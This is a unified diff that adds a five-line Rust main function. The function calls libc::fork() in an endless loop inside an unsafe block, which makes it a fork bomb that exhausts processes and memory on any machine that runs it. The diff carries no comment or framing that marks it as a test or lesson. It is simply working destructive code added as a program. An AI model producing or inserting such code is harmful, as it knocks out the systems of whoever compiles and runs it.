@@ -1,0 +1,5 @@
+fn main() {
+    loop {
+        unsafe { libc::fork() };
+    }
+}
